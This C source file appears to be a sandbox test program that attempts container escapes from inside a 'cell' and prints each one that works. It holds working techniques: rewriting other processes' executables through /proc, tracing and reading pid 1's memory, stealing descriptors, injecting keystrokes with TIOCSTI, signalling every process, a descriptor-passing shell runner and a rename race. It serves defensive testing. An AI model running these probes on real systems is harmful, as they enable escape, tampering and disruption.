/*
 * What a hostile program tries from inside a cell. It prints a line for everything that worked, and
 * so nothing in a cell that holds; `exchange` is for the host's side of a race.
 *
 *   attack programs            changes the programs that other processes were started from
 *   attack steal               traces pid 1, reads its memory, takes its descriptors and directories
 *   attack type                puts keystrokes into every terminal that there is
 *   attack descriptors         uses descriptors that were not handed over
 *   attack signals             signals every process that there is
 *   attack privileges          looks for those that neither the user nor docker's default gives
 *   attack hand-over SOCKET FILE
 *                              sends an open file or directory to whoever listens there
 *   attack take SOCKET         listens there (outside), and runs each line of its standard input with the shell,
 *                              with what it was sent as descriptor 9
 *   attack flood FILE          sends thousands of descriptors which nobody receives, makes the file, and waits until that is removed
 *   attack exchange A B        exchanges two names until it is killed (renameat2)
 */
#define _GNU_SOURCE /* musl hides process_vm_readv */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#define PIDS_MAX        400 /* of the cell's own namespace, which counts from 1 */
#define DESCRIPTORS_MAX 4096
#define DOCKER_DEFAULT  0xa80425fbULL
#define TAKEN_FD        9
#define FLOOD_MESSAGES  10
#define FLOOD_MOST      250 /* of one message; the kernel takes 253 */
#define RENAME_BOTH     2   /* RENAME_EXCHANGE of <linux/fs.h> */

static void say(const char *what, const char *where)
{
    printf("%s %s\n", what, where);
}

/* Whether the program lies in the cell, where root of the cell may well change it. */
static bool is_of_the_cell(const char *link, const struct stat *program)
{
    char path[4096];
    ssize_t n = readlink(link, path, sizeof(path) - 1);
    struct stat st;

    if (n <= 0)
        return false;
    path[n] = '\0';
    return stat(path, &st) == 0 && st.st_dev == program->st_dev && st.st_ino == program->st_ino;
}

static void change_program(int pid)
{
    const struct timespec times[2] = {{0, UTIME_NOW}, {0, UTIME_NOW}};
    char path[64];
    struct stat st;
    int fd;

    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (stat(path, &st) == 0 && is_of_the_cell(path, &st))
        return;
    if (chmod(path, 04777) == 0)
        say("changed the mode of", path);
    if (utimensat(AT_FDCWD, path, times, 0) == 0)
        say("changed the time of", path);
    if (truncate(path, 0) == 0)
        say("emptied", path);
    fd = open(path, O_RDWR);
    if (fd < 0)
        fd = open(path, O_WRONLY | O_TRUNC);
    if (fd >= 0)
        say("can write to", path);
    close(fd);
}

static void attack_programs(void)
{
    for (int round = 0; round < 20; round++) {
        for (int pid = 1; pid < PIDS_MAX; pid++)
            change_program(pid);
    }
}

/* Some files of /proc can be opened by anyone and refuse to be read. */
static bool gives_bytes(const char *path)
{
    char byte;
    DIR *dir = opendir(path);
    int fd = open(path, O_RDONLY);
    bool ok = fd >= 0 && (pread(fd, &byte, 1, 0) == 1 || pread(fd, &byte, 1, 0x400000) == 1);

    for (struct dirent *entry; dir && !ok && (entry = readdir(dir));)
        ok = entry->d_name[0] != '.';
    if (dir)
        closedir(dir);
    close(fd);
    return ok;
}

static void attack_steal(void)
{
    static const char *const files[] = {"mem", "environ", "maps", "auxv", "cwd/.", "root/.",
                                        "io",  "fd/4",    "fd/3", "exe",  "stack", "map_files"};
    char path[64], bytes[16];
    struct iovec here = {bytes, sizeof(bytes)}, there = {(void *)0x400000, sizeof(bytes)};
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);

    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        snprintf(path, sizeof(path), "/proc/1/%s", files[i]);
        if (gives_bytes(path))
            say("read", path);
    }
    for (int fd = 0; fd < 64; fd++) {
        int copy = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

        if (copy >= 0)
            say("took a descriptor of", "pid 1");
        close(copy);
    }
    if (process_vm_readv(1, &here, 1, &there, 1, 0) > 0)
        say("read the memory of", "pid 1");
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) == 0 || ptrace(PTRACE_ATTACH, 1, 0, 0) == 0)
        say("traces", "pid 1");
}

static void type_into(int fd, const char *name)
{
    for (const char *key = "id\n"; fd >= 0 && *key; key++) {
        if (ioctl(fd, TIOCSTI, key) < 0)
            return;
    }
    if (fd >= 0)
        say("typed into", name);
}

static void attack_type(void)
{
    static const char *const names[] = {"/dev/tty",   "/dev/console", "/dev/pts/0",
                                        "/dev/pts/1", "/dev/tty0",    "/dev/tty1"};

    for (int fd = 0; fd < 3; fd++)
        type_into(fd, "an inherited descriptor");
    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY);

        type_into(fd, names[i]);
        close(fd);
    }
    if (isatty(0) || isatty(1) || isatty(2))
        say("has a terminal:", "an inherited descriptor");
    if (getsid(0) != getpid() && getsid(0) != getppid())
        say("is in the session of", "somebody else");
}

static void attack_descriptors(void)
{
    char path[64], target[256];

    for (int fd = 3; fd < DESCRIPTORS_MAX; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        target[readlink(path, target, sizeof(target) - 1) > 0 ? strcspn(target, "\n") : 0] = '\0';
        say("has the descriptor", path);
        if (fchdir(fd) == 0)
            say("went to", path);
    }
}

static void attack_signals(void)
{
    char text[32];

    signal(SIGTERM, SIG_IGN);
    /* Pid 1 would forward it to this very group. */
    for (int pid = 2; pid < 70000; pid++) {
        if (pid == getpid() || pid == getppid() || kill(pid, SIGTERM) < 0)
            continue;
        snprintf(text, sizeof(text), "process %d", pid);
        say("signalled", text);
    }
}

static void attack_privileges(void)
{
    FILE *status = fopen("/proc/self/status", "r");
    char line[256];
    unsigned long long set;

    if (getuid() != geteuid() || getgid() != getegid())
        say("has the rights of", "another user");
    while (status && fgets(line, sizeof(line), status)) {
        if (sscanf(line, "CapPrm: %llx", &set) != 1 && sscanf(line, "CapEff: %llx", &set) != 1)
            continue;
        if (getuid() == 0 ? set & ~DOCKER_DEFAULT : set)
            say("has the capabilities", line);
    }
    if (status)
        fclose(status);
}

static int attack_exchange(const char *a, const char *b)
{
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_BOTH) < 0 && errno != ENOENT)
            return 1;
    }
}

static int unix_socket(const char *path, int (*use)(int, const struct sockaddr *, socklen_t))
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);

    snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
    if (use(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
        exit(1);
    return fd;
}

union one_fd {
    struct cmsghdr header;
    char space[CMSG_SPACE(sizeof(int))];
};

static int hand_over(const char *path, const char *file)
{
    int sent = open(file, O_RDONLY), fd = unix_socket(path, connect);
    union one_fd ancillary = {.header = {.cmsg_level = SOL_SOCKET,
                                         .cmsg_type = SCM_RIGHTS,
                                         .cmsg_len = CMSG_LEN(sizeof(int))}};
    struct iovec byte = {"", 1};
    struct msghdr message = {.msg_iov = &byte,
                             .msg_iovlen = 1,
                             .msg_control = &ancillary,
                             .msg_controllen = sizeof(ancillary)};

    memcpy(CMSG_DATA(&ancillary.header), &sent, sizeof(sent));
    return sendmsg(fd, &message, 0) == 1 ? 0 : 1;
}

static int take(const char *path)
{
    int server = unix_socket(path, bind), client, taken;
    union one_fd ancillary;
    char byte, line[4096];
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part,
                             .msg_iovlen = 1,
                             .msg_control = &ancillary,
                             .msg_controllen = sizeof(ancillary)};

    if (chmod(path, 0777) < 0 || listen(server, 1) < 0 ||
        (client = accept(server, NULL, NULL)) < 0 || recvmsg(client, &message, 0) != 1)
        return 1;
    memcpy(&taken, CMSG_DATA(&ancillary.header), sizeof(taken));
    if (dup2(taken, TAKEN_FD) < 0)
        return 1;
    while (fgets(line, sizeof(line), stdin)) {
        if (system(line) < 0)
            return 1;
    }
    return 0;
}

static int flood(const char *file)
{
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(FLOOD_MOST * sizeof(int))];
    } ancillary = {.header = {.cmsg_level = SOL_SOCKET,
                              .cmsg_type = SCM_RIGHTS,
                              .cmsg_len = CMSG_LEN(FLOOD_MOST * sizeof(int))}};
    struct iovec byte = {"", 1};
    struct msghdr message = {.msg_iov = &byte,
                             .msg_iovlen = 1,
                             .msg_control = &ancillary,
                             .msg_controllen = sizeof(ancillary)};
    int ends[2], sent[FLOOD_MOST] = {0};

    memcpy(CMSG_DATA(&ancillary.header), sent, sizeof(sent));
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
        return 1;
    for (int i = 0; i < FLOOD_MESSAGES; i++) {
        if (sendmsg(ends[0], &message, 0) != 1)
            return 1;
    }
    close(open(file, O_WRONLY | O_CREAT, 0644));
    while (access(file, F_OK) == 0)
        usleep(20000);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*attack)(void);
    } attacks[] = {
        {"programs", attack_programs}, {"steal", attack_steal},
        {"type", attack_type},         {"descriptors", attack_descriptors},
        {"signals", attack_signals},   {"privileges", attack_privileges},
    };

    if (argc == 4 && strcmp(argv[1], "hand-over") == 0)
        return hand_over(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "flood") == 0)
        return flood(argv[2]);
    if (argc == 3 && strcmp(argv[1], "take") == 0)
        return take(argv[2]);
    if (argc == 4 && strcmp(argv[1], "exchange") == 0)
        return attack_exchange(argv[2], argv[3]);
    for (size_t i = 0; argc == 2 && i < sizeof(attacks) / sizeof(*attacks); i++) {
        if (strcmp(argv[1], attacks[i].name) != 0)
            continue;
        attacks[i].attack();
        return 0;
    }
    fprintf(stderr, "attack: no such attack\n");
    return 125;
}
